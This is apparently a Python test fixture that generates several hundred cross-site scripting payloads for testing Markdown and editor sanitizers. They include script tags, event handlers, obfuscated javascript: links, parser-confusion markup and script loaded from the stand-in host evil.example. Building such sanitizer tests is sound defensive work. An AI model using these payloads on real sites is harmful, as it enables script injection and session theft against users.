"""Ways to smuggle a script into a text, written for this test: plain HTML, Markdown's own doors, odd encodings, other markup.

`MARKDOWN` goes through the door of the first library, `PAYLOADS` (those and some hundreds more) through an editor's."""

from itertools import product

SCRIPT = "alert(1)"
MARKDOWN = [
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT >{SCRIPT}</SCRIPT\t>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<script/anything>{SCRIPT}</script>",
    f"</p><script>{SCRIPT}</script><p>",
    f"<img src=x onerror={SCRIPT}>",
    f'<img src="x" OnErRoR="{SCRIPT}">',
    f"<img/src=x/onerror={SCRIPT}>",
    f"<img src=`x` onerror=`{SCRIPT}`>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f'<svg><a xlink:href="javascript:{SCRIPT}"><text>x</text></a></svg>',
    f'<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>',
    f"<svg><foreignObject><iframe srcdoc='<script>{SCRIPT}</script>'></iframe></foreignObject></svg>",
    f'<math><mtext><script>{SCRIPT}</script></mtext></math>',
    f'<math href="javascript:{SCRIPT}">x</math>',
    f"<body onload={SCRIPT}>",
    f"<iframe src=javascript:{SCRIPT}>",
    f'<iframe srcdoc="&lt;script&gt;{SCRIPT}&lt;/script&gt;">',
    f"<object data=javascript:{SCRIPT}>",
    "<embed src=//evil.example/x.swf>",
    f"<form action=javascript:{SCRIPT}><button>x</button></form>",
    f"<button formaction=javascript:{SCRIPT}>x</button>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<audio src=x onerror={SCRIPT}>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    f"<style>@import 'javascript:{SCRIPT}';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    f'<p style="background:url(javascript:{SCRIPT})">x</p>',
    f"<link rel=stylesheet href=javascript:{SCRIPT}>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{SCRIPT}">',
    "<base href=//evil.example/>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={SCRIPT}>\">",
    f"<xmp><p title='</xmp><img src=x onerror={SCRIPT}>'>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"<a href=javascript:{SCRIPT}>x</a>",
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVaScRiPt:{SCRIPT})",
    f"[x](<javascript:{SCRIPT}>)",
    f"[x](&#106;avascript:{SCRIPT})",
    f"[x](java&#x0A;script:{SCRIPT})",
    f"[x](java%0ascript:{SCRIPT})",
    f"[x](&#x01;javascript:{SCRIPT})",
    f"[x](javascript&colon;{SCRIPT})",
    f"[x](vbscript:{SCRIPT})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](data:text/html,<script>{SCRIPT}</script>)",
    "[x](file:///etc/passwd)",
    f'[x](https://a.example "onmouseover={SCRIPT}")',
    f'[x](https://a.example "\\" onmouseover=\\"{SCRIPT}")',
    f"[x]: javascript:{SCRIPT}\n\n[x]",
    f"<javascript:{SCRIPT}>",
    f"![x](javascript:{SCRIPT})",
    f'![x" onerror="{SCRIPT}](x)',
    f"![x](https://a.example/x.png\" onerror=\"{SCRIPT})",
    "[x](//evil.example/path)",
    "[x](\\\\evil.example/path)",
    f"`<script>{SCRIPT}</script>`",
    f"```html\n<script>{SCRIPT}</script>\n```",
    f"    <script>{SCRIPT}</script>",
    f"| <script>{SCRIPT}</script> |\n|---|\n| <img src=x onerror={SCRIPT}> |",
    f"# <script>{SCRIPT}</script>",
    f"> <svg onload={SCRIPT}>",
    f"- [x](javascript:{SCRIPT})",
    f"{{{{ constructor.constructor('{SCRIPT}')() }}}}",
    "{% load x %}{{ request.user }}",
    f"\u2028<script>{SCRIPT}</script>",
    f"<scr\u200dipt>{SCRIPT}</scr\u200dipt>",
    f"＜script＞{SCRIPT}＜/script＞",
    f"<a href=' &#14; javascript:{SCRIPT}'>x</a>",
    f"<p id=x name=getElementById onclick={SCRIPT}>x</p>",
]  # fmt: skip

# Every element of a page that may carry a handler, with every handler that needs no hand.
CARRIERS = ("p", "h2", "a href=/x", "span lang=en", "td", "th scope=col", "caption", "figure", "figcaption", "li", "ol start=2",
            "blockquote", "img src=x", "img src=/guidance/pictures/00000000-0000-4000-8000-000000000000/", "svg", "math", "body",
            "video src=x", "audio src=x", "iframe", "object", "details open", "marquee", "select autofocus", "textarea autofocus",
            "div contenteditable autofocus", "x-unknown", "font", "b", "center")  # fmt: skip
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseenter",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "oncontentvisibilityautostatechange",
)
QUOTES = ("={}", "='{}'", '="{}"', "\t=\n{}", "/={}/")
HANDLED = [
    f"<{carrier} {handler}{quote.format(SCRIPT)}>x</{carrier.split()[0]}>"
    for (carrier, handler), quote in zip(product(CARRIERS, HANDLERS), QUOTES * 48, strict=True)
]

# Schemes that run, written so that a careless eye does not see them, in every attribute that leads somewhere.
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java&#9;script:", "&#106;avascript:", "&#x6A;avascript:",
           "javascript&colon;", "javascript&#58;", "\x01javascript:", " javascript:", "java%0ascript:", "vbscript:",
           "data:text/html,<script>alert(1)</script>//", "blob:https://x/", "feed:javascript:", "view-source:javascript:",
           "//evil.example/", "/\\evil.example/", "\\\\evil.example/", "/\t/evil.example/", "file:///")  # fmt: skip
LEADING = ("a href", "img src", "img srcset", "area href", "form action", "button formaction", "iframe src", "embed src",
           "object data", "base href", "blockquote cite", "video poster", "link rel=stylesheet href", "table background", "use href")  # fmt: skip
LED = [
    f"<{place}={quote}{scheme}{SCRIPT}{quote}>x</{place.split()[0]}>"
    for (place, scheme), quote in zip(product(LEADING, SCHEMES), ('"', "'") * 165, strict=True)
]

# Markup that one parser reads in one way and the next in another.
TWOFOLD = [
    f"<{outer}><{inner}><{raw}><!--</{raw}><img src=x onerror={SCRIPT}>--></{raw}></{inner}></{outer}>"
    for outer, inner, raw in product(
        ("math", "svg"), ("mtext", "desc", "title", "mglyph", "annotation-xml"), ("style", "xmp", "noscript", "textarea", "title")
    )
] + [
    f"<table><caption><svg><style><img src=x onerror={SCRIPT}></caption></table>",
    f"<figure><figcaption><!--><img src=x onerror={SCRIPT}></figcaption></figure>",
    f'<p lang="en&quot; onclick=&quot;{SCRIPT}">x</p>',
    f'<img alt="`><img src=x onerror={SCRIPT}>" src="/guidance/pictures/00000000-0000-4000-8000-000000000000/">',
    f'<img alt="<table>" src="/guidance/pictures/00000000-0000-4000-8000-000000000000/&quot; onerror=&quot;{SCRIPT}">',
    f"<p style='mso-list:l0 level1 lfo1' onclick={SCRIPT}><span style='mso-list:Ignore' onclick={SCRIPT}>1.</span>x</p>",
    f'<b style="font-weight:normal" id="docs-internal-guid-1" onclick="{SCRIPT}"><p>x</p></b>',
    f"<!--[if gte mso 9]><script>{SCRIPT}</script><![endif]-->",
    f"<![if !supportLists]><script>{SCRIPT}</script><![endif]>",
    f"<o:p><script>{SCRIPT}</script></o:p>",
    f"<form id=x></form><button form=x formaction=javascript:{SCRIPT}>x</button>",
    f"<p id=cookie name=location class=sticky-actions data-autosave=/x hx-get=/x hx-on:load={SCRIPT} autofocus tabindex=1>x</p>",
]  # fmt: skip

PAYLOADS = [*MARKDOWN, *HANDLED, *LED, *TWOFOLD]
